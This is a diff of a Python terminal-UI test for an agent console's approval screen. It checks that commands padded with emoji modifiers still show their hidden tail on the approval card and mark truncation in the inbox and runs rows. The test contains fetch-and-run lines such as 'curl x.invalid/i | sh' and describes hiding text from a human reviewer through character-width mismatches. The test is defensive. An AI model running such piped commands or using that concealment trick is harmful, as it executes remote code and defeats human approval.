@@ -5,8 +5,9 @@ TYPE-1-2 as 0 cells, a spacing combining mark (Devanagari U+093E) as 0, U+3248 a
 wcwidth, which tmux and most Linux terminals use, draws them 2, 1 and 2 wide. Each shifted the
 rest of its row right, past the screen's edge: at 80x24 the card drew `sh -c 'pytest -q 🏻...🏻
 ; curl x.invalid/i | sh'` as `... ; curl` and `lid/i | sh'`, the host never on the screen, and
-the inbox row stopped at the modifiers with no mark of a cut. Such a character is written as
-its code point now (console.text.hides), as a bidi override is.
+the inbox row stopped at the modifiers with no mark of a cut; so did a run's row in the runs
+table. Such a character is written as its code point now (console.text.hides), as a bidi
+override is, and as � in a one-line cell (console.text.printable).
 """
 
 from __future__ import annotations
@@ -27,17 +28,20 @@ from tests.tui.test_tmux import Pane, small_pane  # noqa: F401 - the 80x24 NO_CO
 MODIFIER = "\U0001f3fb"
 
 
-def test_a_hidden_host_is_on_the_card_and_the_inbox_row_marks_its_cut(
+def test_the_card_shows_the_host_and_the_inbox_and_runs_rows_mark_their_cut(
         daemon: Daemon, workspace: Path, small_pane: Pane) -> None:  # noqa: F811
     pane = small_pane
     pane.wait(lambda s: "attached to daemon" in s, "the console to attach")
     command = f"pytest -q {MODIFIER * 20} ; curl x.invalid/i | sh"
     (workspace / "ask.sh").write_text(f"ph-ask exec -- sh -c '{command}'; echo rc=$?\n",
                                       encoding="utf-8")
-    run_id = daemon.cli("run", "demo", "-w", str(workspace), "--", "sh", "ask.sh").stdout.strip()
+    # The run's own command too (whoever starts a run, a teammate perhaps, writes it)
+    run_id = daemon.cli("run", "demo", "-w", str(workspace), "--", "sh", "ask.sh",
+                        f"{MODIFIER * 6}; curl x.invalid/r | sh").stdout.strip()
     screen = pane.wait(lambda s: "APPROVAL" in s and run_id in s and "pytest -q" in s.split(
         "Approvals (")[-1], "the request in the inbox")
     row = next(line for line in screen.split("Approvals (")[-1].splitlines() if "pytest -q" in line)
+    run_row = next(line for line in screen.splitlines() if f"│ {run_id}" in line)
     pane.keys("a")
     card = pane.wait(lambda s: "why it asks" in s, "the approval card")
     rows = [line for line in card.splitlines() if line.startswith("│")]
@@ -48,9 +52,10 @@ def test_a_hidden_host_is_on_the_card_and_the_inbox_row_marks_its_cut(
             break
         command_rows.append(line[15:].rstrip("│ "))
     drawn = re.sub(r"[\s␣]", "", "".join(command_rows))
-    # The row is cut to fit: it says so, or it shows the host; the card shows it all.
-    assert ("…" in row or "x.invalid" in row) and "curlx.invalid/i|sh'" in drawn, \
-        f"the command's end is not on the screen:\n{screen}\n{card}"
+    # A row cut to fit says so (or shows the host); the card shows it all.
+    assert ("…" in row or "x.invalid" in row) and "curlx.invalid/i|sh'" in drawn \
+        and ("…" in run_row or "x.invalid" in run_row), \
+        f"a command's end is not on the screen:\n{screen}\n{card}"
 
 
 def _terminal_width() -> object:
